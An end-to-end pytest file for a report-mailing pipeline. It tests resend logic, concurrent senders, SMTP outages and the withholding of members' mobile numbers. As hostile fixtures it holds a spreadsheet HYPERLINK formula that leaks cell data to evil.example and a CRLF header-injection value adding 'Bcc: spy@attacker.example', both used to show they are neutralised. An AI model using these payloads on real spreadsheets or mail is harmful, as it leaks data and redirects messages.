"""Report mail under hostile data and unlucky operators (issue 13), through a real SMTP server on loopback:

- break 5: a NUL or a formula in a seller's name, a CR in an officer's name, an unusable address: the day's other
  messages still go; the broken one is a `failed` row with its reason; headers carry no injected line;
- break 6: `report send --date D` before D was monitored is refused, and after the run the real report goes;
- break 7: `--resend` sends only what did not go (a 550, a message that could not be composed, one withheld);
  `--again KEY` asks for one more copy of a delivered message; two sender processes at once send each message
  once (SQLite and PostgreSQL); an SMTP outage keeps messages pending with the reason, then each goes once;
- break 8: `finding export` (XLSX and CSV) and the XLSX attachments hold no live formula;
- break 11: a member's mobile written with spaces, dashes or +98, in Persian, Arabic or Latin digits, in a
  rahyari's mail is caught: that message is withheld, the others go.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
from dataclasses import dataclass
from datetime import date, timedelta
from email import policy
from email.parser import BytesParser
from io import BytesIO
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import bindparam, func, select, update

from pipelines.findings import tables as findings_tables
from pipelines.ingest import tables as ingest_tables
from pipelines.mail.compose import build_message, digit_runs, personal_data_found
from pipelines.mail.daily import PersonalDataWithheldError, send_day
from pipelines.mail.outbox import OutgoingMessage, deliver_pending, enqueue
from pipelines.mail.tables import outbox
from pipelines.monitored_day import MonitoredDay
from pipelines.orchestration.daily_steps import run_day
from pipelines.reference import tables as ref_tables
from pipelines.reports.daily import findings_of_day
from pipelines.settings import Settings, get_settings
from pipelines.simulator import SimScale
from pipelines.simulator.run import simulate_into
from pipelines.store.engine import store_engine
from pipelines.store.migrate import upgrade_store
from tests.conftest import create_pg_database, drop_pg_database, free_port
from tests.mail.smtp_sink import SmtpSink

pytestmark = pytest.mark.e2e

DAY = date(2026, 11, 12)  # a Thursday: no weekly digests
SCALE = SimScale(sellers_per_province=3, offers_per_seller=3, orders_per_day=150, members=300)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"جزئیات")'
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def _spaced(mobile: str) -> list[str]:
    """A member's mobile (09xxxxxxxxx) as people type it: Latin with spaces, Persian with dashes, +98 Arabic-Indic."""
    a, b, c = mobile[:4], mobile[4:7], mobile[7:]
    persian = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")
    arabic = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
    return [f"{a} {b} {c}", f"{a}-{b}-{c}".translate(persian), f"+98 {a[1:]} {b} {c}".translate(arabic)]


@pytest.mark.unit
@pytest.mark.parametrize("written", [*_spaced("09908292581"), "(0990) 829.2581", "۰۹۹۰‌۸۲۹‌۲۵۸۱", "0990\u200f 829 2581"])
def test_the_personal_data_screen_reads_numbers_as_people_type_them(written):
    personal = {"09908292581", "9908292581"}
    assert personal_data_found([f"تماس: {written}"], personal)
    assert not personal_data_found(["تاریخ ۱۴۰۵/۰۹/۰۵ و ۱۲ سفارش، مبلغ ۱٬۲۵۰٬۰۰۰ تومان"], personal)
    assert digit_runs("کد ۱۲۳ ۴۵۶۷") == ["1234567"]


def _cli(settings: Settings, monkeypatch, *argv: str) -> int:
    from pipelines.cli import main

    monkeypatch.setenv("RASAD_VAR_DIR", str(settings.var_dir))
    monkeypatch.setenv("RASAD_SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("RASAD_SMTP_PORT", str(settings.smtp_port))
    monkeypatch.setenv("RASAD_SMTP_RETRY_ATTEMPTS", "2")
    monkeypatch.setenv("RASAD_SMTP_RETRY_BASE_SECONDS", "0.05")
    monkeypatch.setenv("RASAD_SMTP_RETRY_MAX_SECONDS", "0.5")
    get_settings.cache_clear()
    try:
        return main(list(argv))
    finally:
        get_settings.cache_clear()


@pytest.fixture(scope="module")
def simulated(tmp_path_factory):
    port = free_port()
    settings = Settings(var_dir=tmp_path_factory.mktemp("var"), smtp_host="127.0.0.1", smtp_port=port,
                        smtp_timeout_seconds=5, smtp_retry_attempts=2, smtp_retry_base_seconds=0.05,
                        smtp_retry_max_seconds=0.5)
    simulate_into(settings, 11, 10, DAY + timedelta(days=1), MonitoredDay(DAY).end, SCALE)
    sink = SmtpSink(port)
    sink.start()
    yield settings, sink
    sink.stop()


def test_sending_a_day_before_it_was_monitored_is_refused(simulated, monkeypatch, capsys):
    settings, sink = simulated
    assert _cli(settings, monkeypatch, "report", "send", "--date", DAY.isoformat()) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "has not been monitored" in err and f"rasad run --date {DAY}" in err
    assert sink.received == []
    with store_engine(settings).connect() as conn:
        assert conn.execute(select(func.count()).select_from(outbox)).scalar() == 0


@dataclass
class World:
    settings: Settings
    sink: SmtpSink
    provinces: list  # provinces with findings on DAY, in order
    officers: pd.DataFrame  # person_id -> full_name, email (as before the edits)
    listed: pd.DataFrame
    teams: dict  # province -> rahyari team email
    mobile: str


def _outbox(settings) -> pd.DataFrame:
    with store_engine(settings).connect() as conn:
        return pd.read_sql(select(outbox.c.message_key, outbox.c.status, outbox.c.last_error, outbox.c.message_id,
                                  outbox.c.to_addrs), conn).set_index("message_key")


@pytest.fixture(scope="module")
def world(simulated):
    """D monitored; then hostile data: formula + NUL seller names, a CR in one officer's name, an unusable address
    for another, two officers whose server answers 550, and three rahyari teams named with a member's mobile."""
    settings, sink = simulated
    run_day(settings, DAY)
    store = store_engine(settings)
    with store.begin() as conn:
        listed = findings_of_day(conn, DAY)
        provinces = sorted(listed["province_id"].dropna().unique())
        assert len(provinces) >= 7, "the simulated day needs findings in seven provinces"
        people = ref_tables.person
        officers = pd.read_sql(select(people.c.person_id, people.c.full_name, people.c.email)
                               .where(people.c.person_id.like("p-off-%")), conn).set_index("person_id")
        mobile = conn.execute(select(ref_tables.member.c.mobile).where(ref_tables.member.c.mobile.is_not(None))
                              .order_by(ref_tables.member.c.member_id)).scalars().first()
        sellers = ingest_tables.stg_sellers
        conn.execute(update(sellers).where(sellers.c.seller_id.in_(listed["seller_id"].dropna().unique().tolist()))
                     .values(display_name=FORMULA + " فروشگاه\x00\x07"))
        conn.execute(update(people).where(people.c.person_id == f"p-off-{provinces[0]}")
                     .values(full_name="علی رصدی\r\nBcc: spy@attacker.example"))
        conn.execute(update(people).where(people.c.person_id == f"p-off-{provinces[1]}")
                     .values(email="officer\r@rasad.example"))
        teams = {p: f"rahyari.{p}@rasad.example" for p in provinces}
        named = dict(zip(provinces[2:5], _spaced(mobile), strict=True))
        rows = []
        for f in listed.itertuples(index=False):
            team = {"team_id": f"rt-{f.province_id}", "kind": "social", "email": teams[f.province_id],
                    "name": f"رهیاری {named.get(f.province_id, f.province_id)}"}
            routing = json.loads(f.routing) | {"rahyari": [team], "cc": []}
            rows.append({"fid": f.finding_id, "routing": json.dumps(routing, ensure_ascii=False)})
        conn.execute(update(findings_tables.finding).where(findings_tables.finding.c.finding_id == bindparam("fid"))
                     .values(routing=bindparam("routing")), rows)
    sink.refuse = {officers.loc[f"p-off-{p}", "email"] for p in provinces[5:7]}
    with pytest.raises(PersonalDataWithheldError):
        send_day(store, settings, DAY)
    sink.refuse = set()
    return World(settings, sink, provinces, officers, listed, teams, mobile)


def _xlsx_cells(message):
    for part in message.iter_attachments():
        ws = load_workbook(BytesIO(part.get_content())).active
        yield from (c for row in ws.iter_rows() for c in row)


def test_a_hostile_row_never_stops_the_days_mail(world):
    p = world.provinces
    rows = _outbox(world.settings)
    failed = rows[rows["status"] == "failed"]
    assert set(failed.index) == {f"officer:{DAY}:{p[1]}", *(f"rahyari:{DAY}:rt-{x}" for x in p[2:5]),
                                 *(f"officer:{DAY}:{x}" for x in p[5:7])}
    assert failed.loc[f"officer:{DAY}:{p[1]}", "last_error"].startswith("not composed: UnusableAddressError")
    assert all(failed.loc[f"officer:{DAY}:{x}", "last_error"].startswith("550") for x in p[5:7])
    assert (rows["status"] != "pending").all()
    sent = rows[rows["status"] == "sent"]
    assert len(sent) >= 31 - 3 and len(world.sink.received) == len(sent)
    ids = [m["Message-ID"] for _, m in world.sink.messages()]
    assert len(set(ids)) == len(ids) == len(sent)
    # the officer with a CR in the name: one recipient, no header injected, the name shown on one line
    (rcpt, message), = [(r, m) for r, m in world.sink.messages("officer")
                        if r == [world.officers.loc[f"p-off-{p[0]}", "email"]]]
    raw = dict((m["Message-ID"], r) for (_, r), (_, m) in zip(world.sink.received, world.sink.messages(),
                                                              strict=True))[message["Message-ID"]]
    headers = raw.split(b"\r\n\r\n", 1)[0]
    assert b"Bcc" not in headers and b"spy@attacker" not in headers and message["Bcc"] is None
    assert message["To"].addresses[0].display_name == "علی رصدی Bcc: spy@attacker.example"
    # the seller's NUL byte did not stop the workbook, and the formula is text
    for _, m in world.sink.messages():
        for cell in _xlsx_cells(m):
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_CHARS)), cell.value


def test_a_members_mobile_in_a_rahyari_mail_is_withheld_however_written(world):
    p = world.provinces
    got = {r[0] for r, _ in world.sink.messages("rahyari")}
    assert got == {world.teams[x] for x in p if x not in p[2:5]}
    rows = _outbox(world.settings)
    for x in p[2:5]:
        assert rows.loc[f"rahyari:{DAY}:rt-{x}", "last_error"].startswith("withheld")
    for _, raw in world.sink.received:  # nothing that went out carries it, however written
        text = BytesParser(policy=policy.default).parsebytes(raw).get_body(("html",)).get_content()
        assert not any(world.mobile[1:] in run for run in digit_runs(text))


def test_finding_export_holds_no_live_formula(world, monkeypatch, tmp_path, capsys):
    for name in ("findings.xlsx", "findings.csv"):
        out = tmp_path / name
        assert _cli(world.settings, monkeypatch, "finding", "export", "--date", DAY.isoformat(), "--out",
                    str(out)) == 0
        if name.endswith(".xlsx"):
            cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
            values = [c.value for c in cells]
            assert all(c.data_type != "f" for c in cells)
        else:
            with out.open(encoding="utf-8-sig") as fh:
                values = [v for row in csv.reader(fh) for v in row]
        assert not [v for v in values if isinstance(v, str) and v.startswith(FORMULA_CHARS)]
        assert len(values) > len(world.listed)


def test_resend_sends_only_what_did_not_go_and_again_one_more_copy(world, monkeypatch, capsys):
    p, store = world.provinces, store_engine(world.settings)
    before = list(world.sink.received)
    with store.begin() as conn:  # the engineer mends the address; the rahyari names are mended too
        conn.execute(update(ref_tables.person).where(ref_tables.person.c.person_id == f"p-off-{p[1]}")
                     .values(email=world.officers.loc[f"p-off-{p[1]}", "email"]))
        rows = []
        for f in world.listed.itertuples(index=False):
            routing = json.loads(f.routing) | {"rahyari": [{"team_id": f"rt-{f.province_id}", "kind": "social",
                                                             "email": world.teams[f.province_id],
                                                             "name": "رهیاری"}], "cc": []}
            rows.append({"fid": f.finding_id, "routing": json.dumps(routing, ensure_ascii=False)})
        conn.execute(update(findings_tables.finding).where(findings_tables.finding.c.finding_id == bindparam("fid"))
                     .values(routing=bindparam("routing")), rows)
    assert _cli(world.settings, monkeypatch, "report", "send", "--date", DAY.isoformat(), "--resend") == 0
    assert "queued again 6" in capsys.readouterr().out
    new = world.sink.received[len(before):]
    expected = {world.officers.loc[f"p-off-{x}", "email"] for x in (p[1], p[5], p[6])} | {
        world.teams[x] for x in p[2:5]}
    assert sorted(r[0] for r, _ in new) == sorted(expected)  # each once; nothing delivered before went again
    assert not ({r[0] for r, _ in new} & {r[0] for r, _ in before} - {world.teams[x] for x in p[2:5]})
    rows = _outbox(world.settings)
    assert (rows["status"] == "sent").all()
    # nothing left to resend: a second --resend sends nothing
    assert _cli(world.settings, monkeypatch, "report", "send", "--date", DAY.isoformat(), "--resend") == 0
    assert len(world.sink.received) == len(before) + len(expected)
    # an explicit copy of one delivered message, with a new Message-ID
    key = f"officer:{DAY}:{p[0]}"
    assert _cli(world.settings, monkeypatch, "report", "send", "--date", DAY.isoformat(), "--again", key) == 0
    (rcpt, raw), = world.sink.received[len(before) + len(expected):]
    assert rcpt == [world.officers.loc[f"p-off-{p[0]}", "email"]]
    assert _outbox(world.settings).loc[key, "message_id"] != rows.loc[key, "message_id"]


def test_after_the_run_the_real_report_was_sent(world):
    """The refused early send left nothing behind: each officer's attachment lists the day's real findings."""
    by_rcpt = {r[0]: m for r, m in world.sink.messages("officer")}
    p = world.provinces[0]
    message = by_rcpt[world.officers.loc[f"p-off-{p}", "email"]]
    rows = [c for c in _xlsx_cells(message) if c.column == 2 and c.row > 1]
    assert len(rows) == int((world.listed["province_id"] == p).sum()) > 0


# ---------------------------------------------------------------- two senders, an outage


@pytest.fixture(params=["sqlite", "postgresql"])
def outbox_store(request, tmp_path):
    """An empty store (migrated) and a stopped SMTP sink; Settings pointing at both."""
    name = None
    url = None
    if request.param == "postgresql":
        name, url = create_pg_database()
    settings = Settings(var_dir=tmp_path / "var", store_url=url, smtp_host="127.0.0.1", smtp_port=free_port(),
                        smtp_timeout_seconds=5, smtp_retry_attempts=2, smtp_retry_base_seconds=0.05,
                        smtp_retry_max_seconds=0.5)
    store = store_engine(settings)
    upgrade_store(store)
    sink = SmtpSink(settings.smtp_port)
    try:
        yield settings, store, sink
    finally:
        sink.stop()
        store.dispose()
        if name:
            drop_pg_database(name)


def _queue(settings, store, n: int) -> None:
    items = []
    for i in range(n):
        msg, texts = build_message(settings=settings, kind="test", day=DAY, subject=f"آزمایش {i}",
                                   to=[("آزمون", f"t{i}@rasad.example")], text="متن", html="<p>متن</p>")
        items.append(OutgoingMessage(key=f"test:{DAY}:{i}", day=DAY, kind="test", recipient_id=str(i), message=msg,
                                     to=[f"t{i}@rasad.example"], texts=texts))
    assert enqueue(store, items, settings).queued == n


SENDER = """
import os, sys, time
from pipelines.cli import main
import pipelines.mail.outbox, pipelines.orchestration.daily_steps  # imports done before the start signal
while not os.path.exists(sys.argv[1]):
    time.sleep(0.01)
raise SystemExit(main(["report", "send"]))
"""


def test_two_senders_at_once_send_each_message_once(outbox_store, tmp_path):
    settings, store, sink = outbox_store
    n = 40
    _queue(settings, store, n)
    sink.delay_seconds = 0.05  # each message takes a while: the two senders overlap
    sink.start()
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2]), "RASAD_VAR_DIR": str(settings.var_dir),
           "RASAD_STORE_URL": settings.resolved_store_url, "RASAD_SMTP_HOST": "127.0.0.1",
           "RASAD_SMTP_PORT": str(settings.smtp_port), "RASAD_SMTP_RETRY_ATTEMPTS": "1"}
    go = tmp_path / "go"
    senders = [subprocess.Popen([sys.executable, "-c", SENDER, str(go)], env=env, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True) for _ in range(2)]
    time.sleep(0.5)
    go.touch()
    outs = [s.communicate(timeout=120) for s in senders]
    assert [s.returncode for s in senders] == [0, 0], outs
    ids = [m["Message-ID"] for _, m in sink.messages()]
    assert len(ids) == len(set(ids)) == n, f"{len(ids)} deliveries of {len(set(ids))} messages"
    with store.connect() as conn:
        rows = pd.read_sql(select(outbox.c.status, outbox.c.claimed_by), conn)
    assert (rows["status"] == "sent").all()
    assert rows["claimed_by"].nunique() == 2, "both senders took part"


def test_an_smtp_outage_keeps_messages_pending_with_the_reason_then_each_goes_once(outbox_store):
    settings, store, sink = outbox_store
    _queue(settings, store, 5)
    down = deliver_pending(store, settings, rounds=1)  # nothing listens on the port
    assert down.sent == 0 and down.pending == 5 and "cannot reach SMTP" in (down.last_error or "")
    with store.connect() as conn:
        reasons = conn.execute(select(outbox.c.last_error)).scalars().all()
    assert all(r and "cannot reach SMTP" in r for r in reasons)
    sink.refuse = {"t0@rasad.example"}  # back, but one mailbox is refused for good
    sink.defer_first_attempt = True  # and every message is deferred (451) once
    sink.start()
    time.sleep(settings.smtp_retry_max_seconds)
    back = deliver_pending(store, settings, rounds=4)
    assert back.sent == 4 and back.pending == 0 and back.failed == 1
    ids = [m["Message-ID"] for _, m in sink.messages()]
    assert len(ids) == len(set(ids)) == 4
